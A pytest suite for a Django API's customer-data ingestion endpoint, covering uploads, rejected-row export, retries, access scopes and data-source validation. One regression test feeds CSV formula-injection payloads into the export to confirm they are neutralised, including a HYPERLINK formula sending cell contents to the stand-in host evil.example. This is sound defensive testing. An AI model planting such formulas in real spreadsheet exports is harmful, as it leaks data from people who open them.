"""POST /api/v1/ingestions/, the run and its rejected rows, as an API client meets them."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from rest_framework.test import APIClient

from accounts.models import AuditLogEntry
from accounts.services import api_key_create
from customers.models import Customer, IngestionRun
from tests.customers.ingestion.conftest import telco, telco_csv

pytestmark = pytest.mark.django_db

URL = "/api/v1/ingestions/"


@pytest.fixture
def post_file(key_client, django_capture_on_commit_callbacks):  # type: ignore[no-untyped-def]
    def post(data: bytes, name: str = "customers.csv", client: APIClient | None = None, **fields: str):  # type: ignore[no-untyped-def]
        with django_capture_on_commit_callbacks(execute=True):
            return (client or key_client).post(
                URL, {"file": SimpleUploadedFile(name, data), **fields}, format="multipart"
            )

    return post


def test_upload_is_accepted_and_the_run_reports_counts_and_quality(post_file, key_client):
    # when
    response = post_file(telco_csv([telco("A-1"), telco("A-2", tenure="x")]))
    # then
    assert response.status_code == 202
    body = response.json()
    assert body["source"] == "upload"
    assert len(body["file_sha256"]) == 64
    run = key_client.get(f"{URL}{body['id']}/").json()
    assert run["status"] == "partially_succeeded"
    assert run["counts"] == {
        "read": 2, "created": 1, "updated": 0, "unchanged": 0, "rejected": 1, "rejected_not_kept": 0
    }
    assert run["quality"]["completeness"]["tenure_months"] == 50.0
    assert set(run["quality"]) >= {"completeness", "rows_with_warnings_pct", "anomaly_count", "quality_pct"}
    assert run["started_at"]
    assert run["finished_at"]
    assert run["error"] == ""
    assert AuditLogEntry.objects.filter(action="ingestion.upload", object_id=body["id"]).exists()


def test_rejected_rows_paginated_and_as_csv(post_file, key_client):
    rows = [telco(f"R-{i}", tenure="-1") for i in range(3)] + [telco("OK-1")]
    run_id = post_file(telco_csv(rows)).json()["id"]

    page = key_client.get(f"{URL}{run_id}/rejected/", {"page_size": 2}).json()
    assert page["count"] == 3
    assert [r["line"] for r in page["results"]] == [2, 3]
    first = page["results"][0]
    assert first["customer_id"] == "R-0"
    assert first["raw"]["tenure"] == "-1"
    assert "tenure_months" in first["errors"]

    download = key_client.get(f"{URL}{run_id}/rejected/", {"format": "csv"})
    assert download.status_code == 200
    assert download["Content-Type"].startswith("text/csv")
    table = list(csv.DictReader(io.StringIO(b"".join(download.streaming_content).decode())))
    assert [r["customerID"] for r in table] == ["R-0", "R-1", "R-2"]


def test_same_file_again_returns_the_earlier_run_unless_forced(post_file):
    data = telco_csv([telco("S-1")])
    first = post_file(data)
    again = post_file(data)
    forced = post_file(data, force="true")
    assert (first.status_code, again.status_code, forced.status_code) == (202, 200, 202)
    assert again.json()["id"] == first.json()["id"]
    assert forced.json()["id"] != first.json()["id"]
    assert IngestionRun.objects.get(pk=forced.json()["id"]).counts["unchanged"] == 1


def test_binary_and_empty_files_are_a_400_with_the_reason(post_file):
    binary = post_file(b"\x89PNG\r\n\x1a\n" + bytes(200), name="photo.png")
    assert binary.status_code == 400
    assert "PNG image" in binary.json()["errors"]["file"][0]
    empty = post_file(b"", name="empty.csv")
    assert empty.status_code == 400
    assert binary.json()["code"] == "invalid"
    assert IngestionRun.objects.count() == 0


def test_files_over_the_cap_are_a_413(post_file, settings):
    settings.INGESTION_MAX_UPLOAD_BYTES = 100
    response = post_file(telco_csv([telco(f"B-{i}") for i in range(5)]))
    assert response.status_code == 413
    body = response.json()
    assert body["code"] == "too_large"
    assert "limit is 100 bytes" in body["detail"]


def test_missing_file_field_and_unknown_fields_are_400(key_client):
    response = key_client.post(URL, {"other": "x"}, format="multipart")
    assert response.status_code == 400
    assert "file" in response.json()["errors"]


def test_scopes_and_departments(post_file, api_client, department, other_department):
    _, read_only = api_key_create(department=department, name="reader", scopes=["customers:read"])
    _, other = api_key_create(department=other_department, name="other")
    reader, outsider = APIClient(), APIClient()
    reader.credentials(HTTP_X_API_KEY=read_only)
    outsider.credentials(HTTP_X_API_KEY=other)

    denied = post_file(telco_csv([telco("X-1")]), client=reader)
    assert denied.status_code == 403
    run_id = post_file(telco_csv([telco("X-1")])).json()["id"]

    assert reader.get(f"{URL}{run_id}/").status_code == 200
    assert outsider.get(f"{URL}{run_id}/").status_code == 404
    assert outsider.get(f"{URL}{run_id}/rejected/", {"format": "csv"}).status_code == 404
    assert outsider.get(URL).json()["count"] == 0
    assert api_client.get(f"{URL}{run_id}/").status_code == 401
    assert Customer.objects.filter(customer_id="X-1").exists()


def test_a_failed_run_can_be_retried(post_file, key_client, django_capture_on_commit_callbacks):
    run_id = post_file(telco_csv([])).json()["id"]
    header_only = key_client.get(f"{URL}{run_id}/").json()
    assert header_only["status"] == "failed"
    assert "no data rows" in header_only["error"]
    with django_capture_on_commit_callbacks(execute=True):
        retried = key_client.post(f"{URL}{header_only['id']}/retry/")
    assert retried.status_code == 202
    assert key_client.get(f"{URL}{header_only['id']}/").json()["attempts"] == 2

    done = post_file(telco_csv([telco("Z-1")])).json()
    refused = key_client.post(f"{URL}{done['id']}/retry/")
    assert refused.status_code == 409
    assert refused.json()["code"] == "run_not_retryable"
    assert "only failed or stalled runs" in refused.json()["detail"]


def test_customer_detail_lists_recent_events(key_client):
    from customers.models import CustomerEvent, EventStatus
    from tests.factories import CustomerFactory

    customer = CustomerFactory(customer_id="E-1")
    CustomerEvent.objects.create(
        stream="s",
        entry_id="1-0",
        event_type="payment.failed",
        status=EventStatus.APPLIED,
        customer=customer,
        customer_key="E-1",
        data={"amount": 30},
    )
    body = key_client.get("/api/v1/customers/E-1/").json()
    assert body["recent_events"][0]["event_type"] == "payment.failed"
    assert body["recent_events"][0]["data"] == {"amount": 30}


def test_rejected_rows_csv_neutralises_formulas_but_keeps_numbers(post_file, key_client):
    """Issue 11 finding 7: cells starting with = + - @ tab or CR were written raw."""
    rows = [
        telco('=HYPERLINK("http://evil.example/?x="&A1)', tenure="-12.5"),
        telco("F-2", tenure="x", gender="+1+2", Partner="@SUM(A1:A9)", Dependents="\tcmd"),
        telco("F-3", tenure="-3-4"),
        '=1+2,"unclosed',
    ]
    run_id = post_file(telco_csv(rows)).json()["id"]
    download = key_client.get(f"{URL}{run_id}/rejected/", {"format": "csv"})
    table = list(csv.DictReader(io.StringIO(b"".join(download.streaming_content).decode())))
    assert len(table) == 4
    first, second, third, malformed = table
    assert first["customerID"] == '\'=HYPERLINK("http://evil.example/?x="&A1)'
    assert first["tenure"] == "-12.5"  # a number stays a number
    assert (second["gender"], second["Partner"]) == ("'+1+2", "'@SUM(A1:A9)")
    assert second["Dependents"] == "'\tcmd"
    assert third["tenure"] == "'-3-4"
    assert malformed["_text"].startswith("'=1+2")
    for row in table:
        for value in row.values():
            assert not value or (value[0] not in "=+@\t\r" and not (value[0] == "-" and value != "-12.5"))


def test_a_source_password_without_an_encryption_key_is_a_503_not_a_500(settings, department):
    from rest_framework.test import APIClient

    from accounts.services import api_key_create

    settings.DATA_SOURCE_ENCRYPTION_KEYS = []
    settings.PRODUCTION = True
    _, plaintext = api_key_create(department=department, name="ingest")
    client = APIClient()
    client.credentials(HTTP_X_API_KEY=plaintext)

    response = client.post("/api/v1/data-sources/", {
        "name": "crm", "kind": "postgresql", "host": "127.0.0.1", "port": 5432, "database": "x", "username": "u",
        "password": "hunter2", "query": "SELECT 1",
    }, format="json")  # fmt: skip

    assert response.status_code == 503, response.content
    assert response.json()["code"] == "service_unavailable"
    assert "DATA_SOURCE_ENCRYPTION_KEY" in response.json()["detail"]
    assert response["Retry-After"] == "300"


def test_a_source_without_a_url_matches_the_served_schema_and_a_bad_url_is_still_refused(key_client):
    # Found by schemathesis in CI: a stream source answers url "", which the schema declared format "uri".
    import jsonschema

    schema = key_client.get("/api/schema/", HTTP_ACCEPT="application/vnd.oai.openapi+json").json()
    data_source = schema["components"]["schemas"]["DataSource"]
    created = key_client.post("/api/v1/data-sources/", {"name": "events", "kind": "stream", "collection": "crm"},
                              format="json")  # fmt: skip
    assert created.status_code == 201, created.content
    assert created.json()["url"] == ""
    declared = data_source["properties"]["url"]
    jsonschema.validate(created.json()["url"], declared)
    # jsonschema checks "uri" only with rfc3987 installed; "" is no URI, so no such format may be declared.
    assert declared.get("format") not in {"uri", "url"}, declared

    refused = key_client.post("/api/v1/data-sources/", {"name": "crm", "kind": "http", "url": "not a url"},
                              format="json")  # fmt: skip
    assert refused.status_code == 400
    assert refused.json()["errors"]["url"] == ["Enter a valid URL."], refused.json()
